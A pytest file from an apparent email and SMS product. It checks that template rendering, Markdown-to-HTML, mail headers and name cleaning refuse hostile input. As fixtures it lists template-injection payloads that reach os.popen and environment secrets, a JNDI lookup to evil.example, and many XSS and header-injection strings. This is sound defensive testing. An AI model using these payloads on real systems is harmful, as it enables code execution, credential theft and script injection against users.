"""Texts that were written to break, run or deceive what reads them."""

from __future__ import annotations

import subprocess
import sys
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from contacts.lines import one_line
from messages.providers.headers import mailbox, unsubscribe_headers
from messages.providers.headers import one_line as header
from messages.rendering import PersonValues
from messages.templates import BadTemplate, clean_value, compile_text
from tests.messages.test_email_layout import AMINA, html_for, make_email, text_for
from tests.test_house import ROOT

# What template languages answer with secrets, files or a machine that is busy for ever.
PROGRAMS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ first_name.__class__ }}",
    "{{ first_name.__init__.__globals__ }}",
    "{{ env }}",
    "{{ env.TWILIO_AUTH_TOKEN }}",
    "{{ settings.secret }}",
    "{{ config.items() }}",
    "{{ self }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ 7*7 }}",
    "{{ range(1000000000) }}",
    "{{ (1..1000000000) | join }}",
    '{{ "a" | times: 1000000000 }}',
    "{{ first_name | append: first_name }}",
    '{{ include "/etc/passwd" }}',
    "{{ first_name[0] }}",
    "{{ link:99 }}",
    "{{{{ first_name }}}}",
    "{{ first_name {{ city }} }}",
    "{{" * 4_096,
    "{{ first_name " * 600,
    "}}" * 4_096,
    "{{ " + "a" * 8_192 + " }}",
    "{{ first_name | " + '"' * 4_000 + " }}",
]
# What is no merge field stands as it was typed: nothing here reads it.
MERE_TEXT = [
    "{% for i in (1..1000000000) %}x{% endfor %}",
    "{% include 'secrets' %}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%(secret)s %s %n",
]


@pytest.mark.parametrize("text", PROGRAMS)
def test_a_program_is_refused_in_a_sentence(text: str) -> None:
    with pytest.raises(BadTemplate, match=r"merge field|without its partner|has single braces"):
        compile_text(text)


@pytest.mark.parametrize("text", MERE_TEXT)
def test_other_languages_are_mere_text(text: str) -> None:
    assert compile_text(text).pieces == (text,)


@pytest.mark.parametrize("text", [*PROGRAMS, *MERE_TEXT])
def test_a_name_that_is_a_program_is_only_a_name(text: str) -> None:
    email = make_email("Dear {{ first_name }}, call.")

    said = text_for(email, PersonValues(first_name=text))

    assert said.startswith(f"Dear {clean_value(text, 40)}, call.")


SCRIPTS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    '[x](https://a.org/"onmouseover="alert(1))',
    "[x](https://a.org 'x\" onerror=\"alert(1)')",
    "<javascript:alert(1)>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript&colon;alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "`<img src=x onerror=alert(1)>`",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x]: javascript:alert(1)\n\n[x]",
    "<base href='https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
]
HARMLESS = {
    "h1",
    "p",
    "a",
    "img",
    "strong",
    "em",
    "code",
    "pre",
    "blockquote",
    "ul",
    "li",
    "br",
    "hr",
}


LAYOUT = {"div", "table", "tbody", "tr", "td"}  # what our own page around it is made of


class Running(HTMLParser):
    """What in a page a mail program might run or fetch."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html.partition("<body")[2])

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS | LAYOUT:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("srcdoc", "formaction", "action"):
                self.found.append(name)
            if name in ("href", "src") and not (value or "").startswith(("https://", "http://")):
                self.found.append(f"{name}={value}")


@pytest.mark.parametrize("body", SCRIPTS)
def test_no_script_gets_into_an_email(body: str) -> None:
    assert Running(html_for(make_email(body))).found == []


@pytest.mark.parametrize("body", SCRIPTS)
def test_nor_by_a_persons_name(body: str) -> None:
    email = make_email("Dear {{ first_name }}: [go]({{ link }})")

    page = html_for(email, replace(AMINA, first_name=body))

    assert Running(page).found == []


@pytest.mark.parametrize(
    "text",
    [
        "Urgent\r\nBcc: everybody@example.org",
        "Urgent\nContent-Type: text/html\n\n<script>",
        "Urgent\r\n\r\nbody",
        "Urgent\x0bX: y",
        "Urgent\u2028X: y",
        "Urgent\x85X: y",
    ],
)
def test_no_header_begins_inside_another(text: str) -> None:
    name, address = mailbox(f"{text} <alerts@example.org>")

    for line in (
        header(text),
        name,
        address,
        *unsubscribe_headers(f"https://a.org/{text}").values(),
    ):
        assert len(line.splitlines()) <= 1


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("Ana\u202egnp.exe", "Anagnp.exe"),
        ("Ana\u2066\u2069", "Ana"),
        ("A\x00na", "Ana"),
        ("A\x1b[31mna", "A[31mna"),
        ("Ana\ud83d", "Ana"),
        ("\u200bAna\ufeff", "Ana"),
        ("\u202e", ""),
        ("Ana\nBcc: x", "Ana Bcc: x"),
        ("José", "José"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("x" * 500, "x" * 120),
    ],
)
def test_a_name_is_what_people_see(typed: str, kept: str) -> None:
    assert one_line(typed) == kept


READ_HOSTILE = """
import sys
from contacts.addresses import BadEmail, BadPhone, BadZip, normalise_email, normalise_phone, normalise_zip
from contacts.lines import one_line
from messages.links import urls_in
from messages.providers.replied_mail import own_words
from messages.templates import BadTemplate, compile_text
from messages.words import understand
from messages.wording import says_how_to_opt_out
from web.translations import translators

SEEDS = [" ", "a", "1", "-", "(", "+1", "a.", "a@", "@", "stop ", "no ", "stop a ", "dont want ", "no quiero ",
    "de la ", "me ", "\\n", "> ", "--\\n", "On x ", "From: ", "_", "{", "{{ ", "http://a", ".", "]", "1 ",
    "is not a ", "reply STOP ", "liked “", "\\u00e9\\u0301", "e\\u0301"]
READERS = [normalise_phone, normalise_email, normalise_zip, one_line, understand, own_words,
    says_how_to_opt_out, compile_text, lambda text: urls_in(text, public_url="https://x.org"),
    translators(("es",))["es"].sentence]
for reader in READERS:
    for seed in SEEDS:
        for tail in ("", "!", "\\n", "x@"):
            text = (seed * 20_000)[:20_000] + tail
            try:
                reader(text)
            except (BadEmail, BadPhone, BadZip, BadTemplate):
                continue
print("read")
"""


def test_no_text_keeps_a_reader_busy() -> None:
    """A pattern that tries every way to cut a text takes hours for these, not seconds."""
    done = subprocess.run(
        [sys.executable, "-c", READ_HOSTILE],
        cwd=ROOT, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip

    assert done.stdout == "read\n", done.stderr[-500:]
